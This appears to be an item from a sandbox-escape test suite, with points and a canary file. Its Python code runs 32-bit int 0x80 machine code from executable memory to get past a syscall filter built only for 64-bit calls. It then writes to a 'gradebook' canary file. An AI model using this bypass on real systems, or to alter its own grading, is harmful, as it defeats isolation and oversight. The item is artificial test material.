# attack: makes its system calls as a 32-bit program would, past a filter for 64 bits
# family: state
# base: solved
# points: 7
# %% last
import ctypes, mmap, os, platform
code = bytes.fromhex("b814000000cd80c3")  # eax = getpid; int 0x80; ret
place = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
place.write(code)
start = ctypes.addressof(ctypes.c_char.from_buffer(place))
if platform.machine() == "x86_64":
    ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    open("CANARY/gradebook.db", "w").write("32 bits")
